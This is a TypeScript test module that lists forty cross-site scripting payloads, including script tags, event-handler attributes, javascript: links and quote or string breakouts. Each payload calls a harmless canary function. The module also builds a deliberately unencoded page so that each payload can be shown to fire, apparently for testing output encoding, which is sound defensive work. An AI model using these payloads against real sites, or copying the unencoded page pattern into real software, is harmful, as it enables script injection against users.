/** Where a hostile text lands when a page forgets to encode it. */
export type Place = 'text' | 'double' | 'single' | 'link' | 'string'
export type Canary = { number: number; place: Place; text: string }

const CALL = 'canary(#)'

/** Each at most 64 characters, so that every text field takes it. `(#)` becomes the canary's number. */
const TEXTS: readonly (readonly [Place, string])[] = [
  ['text', `<script>${CALL}</script>`],
  ['text', `<SCRIPT>${CALL}</SCRIPT >`],
  ['text', `</p><script >${CALL}</script>`],
  ['text', `<img src=x onerror=${CALL}>`],
  ['text', `<IMG SRC=x OnError="${CALL}">`],
  ['text', `<img/src="x"/onerror=${CALL}>`],
  ['text', `<img src=x onerror="&#99;anary(#)">`],
  ['text', `<img srcset=x onerror=${CALL}>`],
  ['text', `<<b><img src=x onerror=${CALL}>`],
  ['text', `<svg onload=${CALL}>`],
  ['text', `<svg/onload=${CALL}//`],
  ['text', `<svg><script>${CALL}</script></svg>`],
  ['text', `<svg><script>&#99;anary(#)</script></svg>`],
  ['text', `<svg><image href=x onerror=${CALL}></svg>`],
  ['text', `<body onload=${CALL}>`],
  ['text', `<details open ontoggle=${CALL}>`],
  ['text', `<input autofocus onfocus=${CALL}>`],
  ['text', `<textarea autofocus onfocus=${CALL}>`],
  ['text', `<b tabindex=1 autofocus onfocus=${CALL}>x</b>`],
  ['text', `<iframe srcdoc="<script>parent.${CALL}</script>">`],
  ['text', `<iframe src="javascript:parent.${CALL}">`],
  ['text', `<iframe onload=${CALL}>`],
  ['text', `<audio src=x onerror=${CALL}>`],
  ['text', `<video><source onerror=${CALL}></video>`],
  ['text', `<link rel=stylesheet href=x onerror=${CALL}>`],
  ['text', `<script src="data:text/javascript,${CALL}"></script>`],
  ['text', `<math><mtext><img src=x onerror=${CALL}>`],
  ['text', `<!--><img src=x onerror=${CALL}>-->`],
  ['text', `</textarea></title></style><script>${CALL}</script>`],
  ['double', `"><script>${CALL}</script>`],
  ['double', `"><img src=x onerror=${CALL}>`],
  ['double', `" autofocus onfocus="${CALL}`],
  ['single', `'><script>${CALL}</script>`],
  ['single', `' autofocus onfocus='${CALL}`],
  ['link', `javascript:${CALL}`],
  ['link', `JaVaScRiPt:${CALL}//`],
  ['link', `javascript://%0a${CALL}`],
  ['string', `</script><script>${CALL}</script>`],
  ['string', `"-${CALL}-"`],
  ['string', `";${CALL};//`],
]

/** Forty texts, each of which runs when a page writes it as it is. */
export const CANARIES: readonly Canary[] = TEXTS.map(([place, text], at) => ({
  number: at + 1,
  place,
  text: text.replaceAll('(#)', `(${at + 1})`),
}))

const PAGES: Readonly<Record<Place, (text: string) => string>> = {
  text: (text) => `<p>${text}</p>`,
  double: (text) => `<input value="${text}">`,
  single: (text) => `<input value='${text}'>`,
  link: (text) => `<a href="${text}">x</a><script>document.links[0].click()</script>`,
  string: (text) => `<script>const said = "${text}"</script>`,
}

/** The page that forgets to encode it. */
export const carelessPage = ({ place, text }: Canary): string =>
  `<!doctype html><title>careless</title><body>${PAGES[place](text)}`
